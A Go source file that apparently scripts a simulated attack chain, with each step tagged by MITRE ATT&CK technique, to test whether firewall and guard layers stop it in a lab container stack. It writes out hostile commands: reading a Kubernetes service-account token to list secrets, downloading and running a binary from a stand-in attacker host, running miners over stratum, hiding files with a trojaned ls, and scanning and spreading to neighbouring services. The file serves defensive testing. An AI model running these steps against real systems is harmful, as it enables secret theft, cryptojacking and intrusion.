package scenario

import (
	"context"
	"fmt"
	"io"
	"net/netip"
	"strings"
	"time"
)

// Addresses of those who are not workloads.
const (
	attackerAddr  = "203.0.113.66"
	attackerAddr6 = "2001:db8:66::66"
	poolAddr      = "198.51.100.10"
	poolAddr6     = "2001:db8:10::10"
	poolName      = "pool.example"
	edgeAddr      = "172.30.0.10"
	edgeAddr6     = "fd88:30::10"
	officeAddr    = "172.30.0.20"
	gatewayAddr   = "10.88.0.1"
	gatewayAddr6  = "fd88:88::1"
)

// step is one thing the attacker attempts.
type step struct {
	id         string
	title      string
	techniques []string // MITRE ATT&CK
	attempt    string   // what is attempted
	judged     string   // how success is judged from the attacker's side
	// layers are the ones that answer for it: when one of them is on, the step
	// must be stopped.
	layers []string
	// where are the workloads whose events can explain a failure.
	where []string
	// try really attempts it. An error means that the story is broken or out
	// of time; a step that was stopped is (false, detail, nil).
	try func(context.Context, *attack) (succeeded bool, detail string, err error)
}

// steps gives the attack in its order.
func steps() []step {
	return []step{
		{
			id: "A1", title: "reach the dashboard from outside", techniques: []string{"T1133", "T1190"},
			attempt: "open the dashboard's front page from the attacker's network",
			judged:  "the page arrives", layers: []string{Firewall}, where: []string{"dashboard"},
			try: func(ctx context.Context, a *attack) (bool, string, error) {
				a.try()
				a.toward(netip.MustParseAddr(attackerAddr))
				err := a.outside(ctx)
				if err != nil && ctx.Err() == nil {
					a.foothold = true
					return false, err.Error(), nil
				}
				return err == nil, "the front page, without a login", ctx.Err()
			},
		},
		{
			id: "A2", title: "use its token to read secrets", techniques: []string{"T1078", "T1528", "T1552.007"},
			attempt: "read the service account's token in the dashboard's container and list secrets with it",
			judged:  "the planted secret arrives", layers: []string{Guard}, where: []string{"dashboard"},
			try: stealSecrets,
		},
		{
			id: "A6a", title: "download a program and run it", techniques: []string{"T1105", "T1059"},
			attempt: "fetch a program to /tmp (or upload it when that fails) and start it",
			judged:  "it prints the proof that it ran", layers: []string{Guard}, where: []string{"dashboard"},
			try: downloadAndRun,
		},
		{
			id: "A6b", title: "run a program from memory", techniques: []string{"T1620", "T1105"},
			attempt: "have the dashboard execute a memory file that never was on a disk",
			judged:  "it prints the proof that it ran", layers: []string{Guard}, where: []string{"dashboard"},
			try: func(ctx context.Context, a *attack) (bool, string, error) {
				nonce, err := newNonce()
				if err != nil {
					return false, "", err
				}
				out, err := a.inMemory(ctx, "prove", nonce)
				return judge(ctx, proven(nonce)(out), out, err)
			},
		},
		{
			id: "A6c", title: "genuine interpreter, hostile arguments", techniques: []string{"T1059.006"},
			attempt: "give the image's own interpreter a program that mines as its argument",
			judged:  "it prints the proof that it ran", layers: []string{Guard}, where: []string{"dashboard"},
			try: func(ctx context.Context, a *attack) (bool, string, error) {
				nonce, err := newNonce()
				if err != nil {
					return false, "", err
				}
				a.toward(netip.MustParseAddr(poolAddr))
				out, err := a.shell(ctx, fmt.Sprintf("python3 -c 'prove %s; mine stratum+tcp://%s:3333 1'", nonce, poolAddr))
				return judge(ctx, proven(nonce)(out), out, err)
			},
		},
		{
			id: "A6d", title: "run a program from shared memory", techniques: []string{"T1105", "T1036.005"},
			attempt: "put a program into /dev/shm and start it",
			judged:  "it prints the proof that it ran", layers: []string{Guard}, where: []string{"dashboard"},
			try: func(ctx context.Context, a *attack) (bool, string, error) {
				return dropAndProve(ctx, a, "/dev/shm/kworker")
			},
		},
		miningStep("A7a", "mine: stratum over plain TCP", "stratum+tcp://"+poolName+":3333", poolAddr),
		miningStep("A7b", "mine: stratum over TLS", "stratum+ssl://"+poolName+":443", poolAddr),
		miningStep("A7c", "mine: stratum over WebSocket", "ws://"+poolName+":80/proxy", poolAddr),
		miningStep("A7d", "mine: raw IPv6 address, no DNS", "stratum+tcp://["+poolAddr6+"]:3333", poolAddr6),
		{
			id: "A8a", title: "hide: replace ls by a copy that hides files", techniques: []string{"T1574", "T1564.001"},
			attempt: "overwrite the image's ls and have it run",
			judged:  "ls runs and no longer shows the attacker's file", layers: []string{Guard}, where: []string{"dashboard"},
			try: hide,
		},
		{
			id: "A8b", title: "sweep the workloads' subnet", techniques: []string{"T1046"},
			attempt: "try the ports 8080 and 5432 of 10.88.0.2 to .40 from the dashboard's container",
			judged:  "a service that the dashboard has nothing to do with answers", layers: []string{Guard, Firewall},
			where: []string{"dashboard", "shop", "payments", "orders-db"},
			try: func(ctx context.Context, a *attack) (bool, string, error) {
				own := a.stack.get("dashboard").address(false)
				for _, name := range []string{"shop", "payments", "orders-db"} {
					a.toward(a.stack.get(name).place.Addresses...)
				}
				return a.insist(ctx, droppedFile, []string{"scan", "10.88.0.2-10.88.0.40", "8080,5432"}, func(out string) bool {
					for line := range strings.Lines(out) {
						if open, ok := strings.CutPrefix(strings.TrimSpace(line), "open "); ok && open != own {
							return true
						}
					}
					return false
				})
			},
		},
		{
			id: "A8c", title: "spread to the shop", techniques: []string{"T1210", "T1021"},
			attempt: "post to the shop's forgotten import page from the dashboard's container",
			judged:  "the shop answers with the proof that it took it", layers: []string{Guard, Firewall}, where: []string{"dashboard", "shop"},
			try: func(ctx context.Context, a *attack) (bool, string, error) {
				nonce, err := newNonce()
				if err != nil {
					return false, "", err
				}
				shop := a.stack.get("shop")
				a.toward(shop.place.Addresses...)
				a.toward(a.stack.get("dashboard").place.Addresses...)
				return a.insist(ctx, droppedFile, []string{"spread", "http://" + shop.address(false) + "/internal/import", nonce}, proven(nonce))
			},
		},
		{
			id: "A10", title: "again, slow and quiet (5% CPU)", techniques: []string{"T1105", "T1036.005", "T1496"},
			attempt: "drop a program with a harmless name in a harmless place, wait, mine with 5% of a processor over TLS",
			judged:  "the pool counts a share", layers: []string{Guard, Firewall}, where: []string{"dashboard"},
			try: func(ctx context.Context, a *attack) (bool, string, error) {
				const file = "/usr/local/lib/dbus-helper"
				if err := a.drop(ctx, file); err != nil {
					return false, "", err
				}
				select {
				case <-ctx.Done():
					return false, "", ctx.Err()
				case <-time.After(500 * time.Millisecond): // being slow is the point of the step
				}
				a.toward(netip.MustParseAddr(poolAddr))
				return a.mine(ctx, file, "stratum+ssl://"+poolName+":443", "1", "0.05")
			},
		},
	}
}

// droppedFile is where the miner lies.
const droppedFile = "/var/tmp/kworker"

func miningStep(id, title, pool, peer string) step {
	return step{
		id: id, title: title, techniques: []string{"T1496"},
		attempt: "start a dropped miner (then one in memory, then the interpreter) with " + pool,
		judged:  "the pool counts a share", layers: []string{Guard, Firewall}, where: []string{"dashboard"},
		try: func(ctx context.Context, a *attack) (bool, string, error) {
			a.toward(netip.MustParseAddr(peer))
			return a.mine(ctx, droppedFile, pool, "2")
		},
	}
}

// judge turns a request's outcome into a step's.
func judge(ctx context.Context, ok bool, out string, err error) (bool, string, error) {
	switch {
	case ctx.Err() != nil:
		return false, "", ctx.Err()
	case ok:
		return true, "hostile code ran", nil
	case err != nil:
		return false, err.Error(), nil
	}
	return false, brief(out), nil
}

func stealSecrets(ctx context.Context, a *attack) (bool, string, error) {
	api := a.stack.get("api")
	a.toward(api.place.Addresses...)
	out, err := a.shell(ctx, "cat /var/run/secrets/kubernetes.io/serviceaccount/token")
	if err != nil {
		return false, err.Error(), ctx.Err()
	}
	token := strings.TrimSpace(out)
	if token == "" || strings.ContainsAny(token, " \n[") {
		return false, "token: " + brief(out), ctx.Err()
	}
	out, err = a.shell(ctx, fmt.Sprintf("fetch -H 'Authorization: Bearer %s' http://%s/api/v1/secrets", token, api.address(false)))
	if err == nil && strings.Contains(out, a.secret) {
		return true, "the registry's password was read", nil
	}
	return judge(ctx, false, out, err)
}

func downloadAndRun(ctx context.Context, a *attack) (bool, string, error) {
	const file = "/tmp/kworker"
	nonce, err := newNonce()
	if err != nil {
		return false, "", err
	}
	a.toward(netip.MustParseAddr(attackerAddr))
	out, err := a.shell(ctx, fmt.Sprintf("fetch -o %s http://%s/kworker; chmod 755 %[1]s; %[1]s prove %[3]s", file, attackerAddr, nonce))
	if err == nil && proven(nonce)(out) {
		return true, "downloaded and run", nil
	}
	if ctx.Err() != nil {
		return false, "", ctx.Err()
	}
	return dropAndProve(ctx, a, file)
}

func dropAndProve(ctx context.Context, a *attack, file string) (bool, string, error) {
	nonce, err := newNonce()
	if err != nil {
		return false, "", err
	}
	if err := a.drop(ctx, file); err != nil {
		return false, "", err
	}
	out, err := a.shell(ctx, file+" prove "+nonce)
	return judge(ctx, proven(nonce)(out), out, err)
}

// hide puts a file down, replaces ls, and looks whether ls still shows it.
func hide(ctx context.Context, a *attack) (bool, string, error) {
	const dir = "/var/tmp/work"
	for _, name := range []string{"readme", ".kworker-log"} {
		if err := a.upload(ctx, dir+"/"+name, strings.NewReader("x")); err != nil {
			return false, "", err
		}
	}
	out, err := a.request(ctx, "/diagnostics", strings.NewReader("ls "+dir))
	if err != nil {
		return false, "", err
	}
	if !strings.Contains(out, ".kworker-log") {
		return false, "", fmt.Errorf("%w: the honest ls does not show the file: %s", errBroken, brief(out))
	}
	t, err := a.trojan()
	if err != nil {
		return false, "", err
	}
	defer t.Close()
	if err := a.upload(ctx, "/usr/bin/ls", io.Reader(t)); err != nil {
		return false, "", err
	}
	out, err = a.shell(ctx, "ls "+dir)
	return judge(ctx, strings.Contains(out, "readme") && !strings.Contains(out, ".kworker-log"), out, err)
}
